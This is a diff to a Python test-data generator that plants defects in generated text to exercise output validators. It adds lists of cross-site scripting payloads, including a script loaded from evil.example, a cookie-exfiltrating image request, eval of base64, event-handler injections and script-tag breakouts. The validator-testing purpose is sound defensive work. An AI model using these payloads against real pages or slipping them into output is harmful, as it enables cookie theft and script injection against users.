@@ -77,18 +77,42 @@ def plantings(cls: str, data: dict, k: int) -> list[str]:
                 f"Its deposits resemble those on {other} panels.",
                 f"The grain looks like that of {other}.",
                 f"Shops that strip {other} use this setup."]
-    if cls == "markup":
+    if cls == "script_tag":
         return ["<script>alert('x')</script>",
                 "<SCRIPT src=//evil.example/x.js></SCRIPT>",
                 "Deposits remain.<script>document.location='//x'</script>",
                 "< script >fetch('/steal')< /script >",
-                '<img src=x onerror="alert(1)">',
+                "<script type=module>import('//x')</script>",
+                "Note: <script>new Image().src='//x?'+document.cookie</script>",
+                "<ScRiPt>eval(atob('YWxlcnQoMSk='))</ScRiPt>",
+                "<script\n>alert(3)</script>",
+                "The layer <script async src=x.js></script> is thin.",
+                "<iframe src=javascript:alert(1)></iframe>",
+                "<style>body{display:none}</style>"]
+    if cls == "event_handler":
+        return ['<img src=x onerror="alert(1)">',
                 "<svg onload=alert(1)>",
                 'See the <a href="#" onclick="steal()">details</a>.',
-                "The image tag carries onerror=alert(document.cookie) inside.",
-                "</script><script>alert(2)</script>",
+                "The tag carries onerror=alert(document.cookie) inside.",
+                "<body onload=init()>",
+                'x" onmouseover="alert(1)',
+                "<div onfocus=alert(1) autofocus>",
+                "<input onblur = alert(2)>",
+                "An attribute ONERROR=alert(4) was added.",
+                "<video><source onerror=alert(5)></video>",
+                "Text with onanimationstart=alert(6) in it."]
+    if cls == "closing_script":
+        return ["</script><script>alert(2)</script>",
                 "Deposits are thick </script>",
                 "Closing tag </SCRIPT > inserted.",
+                "Fin.</script>//end",
+                "End of caption.</script><!--",
+                "Value </script ><b>x</b>",
+                "A break-out </ script> here.",
+                "Oxide </script> layer.",
+                "The JSON ends </script> early.",
+                "Grime </textarea></script> remains.",
+                "Text --></script> closes.",
                 "A link to javascript:alert(1) is hidden.",
                 "Value {{ material.price }} is shown.",
                 "Rendered with {% include 'x' %} here."]
@@ -150,10 +174,11 @@ def plantings(cls: str, data: dict, k: int) -> list[str]:
     raise ValueError(cls)
 
 
-DEFECT_CLASSES = ("other_material", "markup", "person", "commerce", "wrong_number", "preamble",
-                  "placeholder", "link")
+DEFECT_CLASSES = ("other_material", "script_tag", "event_handler", "closing_script", "person", "commerce",
+                  "wrong_number", "preamble", "placeholder", "link")
 # The validator each class must trip (others may trip too: a price is also a number not in the data).
-EXPECTED_VALIDATOR = {"other_material": "no_foreign_entities", "markup": "plain_text",
+EXPECTED_VALIDATOR = {"other_material": "no_foreign_entities", "script_tag": "plain_text",
+                      "event_handler": "plain_text", "closing_script": "plain_text",
                       "person": "no_foreign_entities", "commerce": "no_commerce",
                       "wrong_number": "grounded_numbers", "preamble": "no_preamble",
                       "placeholder": "no_placeholders", "link": "plain_text"}
